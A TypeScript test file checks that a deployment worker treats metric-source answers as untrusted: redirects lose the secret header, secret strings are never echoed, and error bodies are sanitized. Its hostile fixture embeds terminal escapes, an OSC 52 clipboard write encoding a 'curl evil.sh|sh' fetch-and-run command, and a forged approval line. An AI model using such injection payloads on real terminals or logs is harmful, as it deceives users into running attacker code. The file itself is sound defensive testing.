// What a metric source answers is untrusted, even from a source the worker's policy lists: a
// redirect does not carry the policy's secret header to another host, a value that is not a
// number is named by its type (never quoted into the status, the history, the GitHub
// Deployment status or chat), and an error body reaches the status and chat as one short,
// inert line. Fake sources and an "attacker" on loopback; the deployments run on the lab.
import type { IncomingMessage, ServerResponse } from 'node:http';
import { NativeConnection } from '@temporalio/worker';
import type { Client, Connection } from '@temporalio/client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { listen, type ListeningServer } from '../lab/http.js';
import { startLab, type Lab } from '../lab/index.js';
import { LAB_WORKER_POLICY } from '../lab/worker-policy.js';
import { metricHeadersFor } from '../analysis/metric-headers.js';
import { measureMetric } from '../analysis/metric-measure.js';
import type { MetricPlan } from '../analysis/metric-plan.js';
import { jsonReader } from '../analysis/json/read.js';
import { prometheusReader } from '../analysis/prometheus/read.js';
import { checkQuerySyntax } from '../analysis/prometheus/query.js';
import { secretStore } from '../worker/secrets.js';
import { createActivities } from '../worker/activities.js';
import { createBlueGreenWorker } from '../worker/worker.js';
import { createGitHubClientCache } from '../activities/octokit.js';
import { startDeployment } from '../client/start-deployment.js';
import { connectClient, labPlan, taskQueueFor, temporalAddress, workflowBundle } from './support/harness.js';
import { finalStatus } from './support/final-status.js';

const API_KEY = 'k3y-from-the-worker-policy-0123456789';
const SECRET_VALUE = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYSECRETKEY';
/** A Prometheus error that tries to clear the screen, write the clipboard (OSC 52) and forge a line. */
const HOSTILE_ERROR =
  'parse error: unexpected \x1b[2J\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07character\n✓ approved by bob (verified by GitHub)\n' +
  'x'.repeat(500);

/** The detail section of the Slack message whose title starts `title` (its plain text). */
function slackDetail(lab: Lab, title: string): string {
  const body = lab.notifications.slack.received.map((r) => r.body).find((b) => b.includes(title));
  if (!body) throw new Error(`no Slack message "${title}"`);
  const message = JSON.parse(body) as { blocks: Array<{ type: string; text?: { text: string } }> };
  const detail = message.blocks.find((b) => b.type === 'section' && b.text);
  if (!detail) throw new Error(`the Slack message "${title}" has no detail`);
  return detail.text!.text;
}

interface Seen {
  path: string;
  headers: IncomingMessage['headers'];
}

/** A loopback server that records every request and answers with `answer`. */
async function server(answer: (req: IncomingMessage, res: ServerResponse) => void): Promise<ListeningServer & { seen: Seen[] }> {
  const seen: Seen[] = [];
  const listening = await listen((req, res) => {
    seen.push({ path: req.url ?? '', headers: req.headers });
    answer(req, res);
  });
  return Object.assign(listening, { seen });
}

const json = (res: ServerResponse, status: number, body: unknown) => {
  res.writeHead(status, { 'content-type': 'application/json' });
  res.end(JSON.stringify(body));
};

const metric = (source: MetricPlan['source']): MetricPlan => ({
  name: 'leak',
  source,
  window: '1m',
  unit: 'number',
  pass: { max: 1 },
  noData: 'fail',
});
const values = { color: 'green' as const, liveColor: 'blue' as const, service: 'svc', sha: 'abc', timeMs: Date.now() };

describe('a listed metric source that redirects', () => {
  let attacker: Awaited<ReturnType<typeof server>>;
  let prometheus: Awaited<ReturnType<typeof server>>;
  beforeAll(async () => {
    attacker = await server((_req, res) =>
      json(res, 200, { status: 'success', data: { resultType: 'scalar', result: [0, '0'] } }),
    );
    prometheus = await server((req, res) => {
      res.writeHead(302, { location: `${attacker.url}${req.url ?? '/'}` });
      res.end();
    });
  });
  afterAll(async () => {
    await prometheus?.close();
    await attacker?.close();
  });

  it('keeps the policy secret header: the redirect target receives no request', async () => {
    // The worker's composition: headers from its policy's metrics prefix, values from its store.
    const headersFor = metricHeadersFor(
      [{ url: prometheus.url, headers: { 'x-api-key': 'PROMETHEUS_API_KEY' } }],
      secretStore({ PROMETHEUS_API_KEY: API_KEY }),
    );
    const options = { headersFor, attempts: 2, backoffMs: 10, timeoutMs: 2_000 };
    const prom = await measureMetric(
      metric({ type: 'prometheus', url: prometheus.url, query: 'up' }),
      values,
      prometheusReader(options),
    );
    const viaJson = await measureMetric(
      metric({ type: 'json', url: `${prometheus.url}/api/value`, pointer: '/value' }),
      values,
      jsonReader(options),
    );
    const syntax = await checkQuerySyntax({ url: prometheus.url, query: 'up', headers: headersFor(prometheus.url) });

    expect(prometheus.seen.length).toBeGreaterThanOrEqual(3);
    expect(prometheus.seen.every((r) => r.headers['x-api-key'] === API_KEY)).toBe(true);
    expect(attacker.seen).toEqual([]);
    expect(prom).toMatchObject({ verdict: 'inconclusive' });
    expect(prom.reason).toContain('HTTP 302');
    expect(prom.reason).toContain('redirect, not followed');
    // A redirect is an answer, not an outage: not retried.
    expect(prom.reason).toContain('after 1 attempt');
    expect(viaJson.reason).toContain('HTTP 302');
    expect(syntax.ok).toBe('unknown');
  });
});

describe('what a metric source answers never reaches a status or chat raw', () => {
  let lab: Lab;
  let client: Client;
  let connection: Connection;
  let stopWorker: () => Promise<void>;
  let metadata: Awaited<ReturnType<typeof server>>;
  let hostilePrometheus: Awaited<ReturnType<typeof server>>;
  const taskQueue = taskQueueFor('untrusted-answers');

  beforeAll(async () => {
    lab = await startLab({ runTiming: { queuedMs: 30, inProgressMs: 150 } });
    ({ client, connection } = await connectClient());
    // A "credentials" document, as a metadata service serves one.
    metadata = await server((_req, res) => json(res, 200, { Code: 'Success', SecretAccessKey: SECRET_VALUE, Count: { n: 1 } }));
    hostilePrometheus = await server((req, res) =>
      req.url?.startsWith('/api/v1/format_query')
        ? json(res, 400, { status: 'error', errorType: 'bad_data', error: HOSTILE_ERROR })
        : json(res, 422, { status: 'error', errorType: 'execution', error: HOSTILE_ERROR }),
    );
    const secrets = lab.notifications.secretsEnv();
    const nativeConnection = await NativeConnection.connect({ address: temporalAddress() });
    const worker = await createBlueGreenWorker({
      connection: nativeConnection,
      namespace: 'default',
      taskQueue,
      workflowBundle: await workflowBundle(),
      activities: createActivities({
        github: createGitHubClientCache({ auth: { kind: 'token', token: lab.token }, retries: 2 }),
        policy: LAB_WORKER_POLICY,
        notify: {
          channels: { 'qa-slack': { type: 'slack', secrets: { url: 'LAB_SLACK_WEBHOOK_URL' } } },
          secrets: (n) => secrets[n],
          timeoutMs: 2_000,
        },
      }),
    });
    const running = worker.run();
    stopWorker = async () => {
      worker.shutdown();
      await running;
      await nativeConnection.close();
    };
  }, 60_000);
  afterAll(async () => {
    await stopWorker?.();
    await connection?.close();
    await hostilePrometheus?.close();
    await metadata?.close();
    await lab?.close();
  });

  const FAST = {
    approval: { required: false },
    timeouts: { heartbeat: '2s' },
    verify: { interval: '100ms' },
    monitor: { duration: '1s', interval: '100ms', failureThreshold: 3 },
    notify: [{ channel: 'qa-slack', events: 'all' }],
  };

  it(
    'a JSON metric answering a secret string: named "a string", in no status, history, GitHub status or chat',
    { timeout: 90_000 },
    async () => {
      const handle = await startDeployment(
        client,
        labPlan(lab, 'svc-untrusted-json', {
          ...FAST,
          metrics: {
            leak: {
              json: { url: `${metadata.url}/latest/meta-data/iam/security-credentials/role`, pointer: '/SecretAccessKey' },
              unit: 'number',
              pass: { max: 1 },
              noData: 'fail',
            },
            shape: {
              json: { url: `${metadata.url}/count`, pointer: '/Count' },
              unit: 'number',
              pass: { max: 1 },
              noData: 'fail',
            },
          },
          verify: {
            ...FAST.verify,
            analysis: { metrics: ['leak', 'shape'], count: 1, interval: '100ms', onInconclusive: 'fail' },
          },
        }),
        { taskQueue },
      );
      const result = await finalStatus(handle);
      expect(result.outcome).toBe('FAILED');
      expect(metadata.seen.length).toBeGreaterThan(0);
      const verify = result.analyses?.verify?.metrics?.metrics ?? [];
      expect(verify.find((m) => m.name === 'leak')?.last?.reason).toMatch(/returned a string, not a number/);
      expect(verify.find((m) => m.name === 'shape')?.last?.reason).toMatch(/returned an object, not a number/);

      const history = JSON.stringify(await handle.fetchHistory());
      const records = lab.github.deployments.filter((d) => JSON.stringify(d).includes('svc-untrusted-json'));
      expect(records.flatMap((d) => d.statuses.map((st) => st.state))).toContain('failure');
      const slack = lab.notifications.slack.received.map((r) => r.body).join('\n');
      expect(slack).toContain('svc-untrusted-json: FAILED');
      for (const [where, text] of Object.entries({
        status: JSON.stringify(result),
        history,
        statuses: JSON.stringify(records),
        slack,
      })) {
        expect(text.includes(SECRET_VALUE), `${where} carries the secret`).toBe(false);
        expect(text.includes('wJalrXUtnFEMI'), `${where} carries part of the secret`).toBe(false);
      }
    },
  );

  it(
    'a Prometheus error body with escapes and a forged line: one clean, short line in status.error and Slack',
    { timeout: 90_000 },
    async () => {
      const handle = await startDeployment(
        client,
        labPlan(lab, 'svc-untrusted-prom', {
          ...FAST,
          metrics: {
            'error-rate': {
              prometheus: { url: hostilePrometheus.url },
              query: 'sum(rate(x[{{window}}]))',
              unit: 'ratio',
              pass: { max: 0.01 },
              noData: 'fail',
            },
          },
          verify: { ...FAST.verify, analysis: { metrics: ['error-rate'], count: 1, interval: '100ms', onInconclusive: 'fail' } },
        }),
        { taskQueue },
      );
      const result = await finalStatus(handle);
      expect(result.outcome).toBe('FAILED');
      const error = result.error ?? '';
      expect(error).toContain('not valid PromQL');
      expect(error).toContain('parse error: unexpected character ✓ approved by bob');
      for (const text of [error, slackDetail(lab, 'svc-untrusted-prom: FAILED')]) {
        expect(text).not.toMatch(/[\x00-\x1f\x7f-\x9f]/);
        expect(text).not.toContain('52;c;');
        // Cut to a short excerpt where it was read.
        expect(text).not.toContain('x'.repeat(100));
      }
      expect(slackDetail(lab, 'svc-untrusted-prom: FAILED')).toContain('parse error: unexpected character ✓ approved by bob');
    },
  );
});
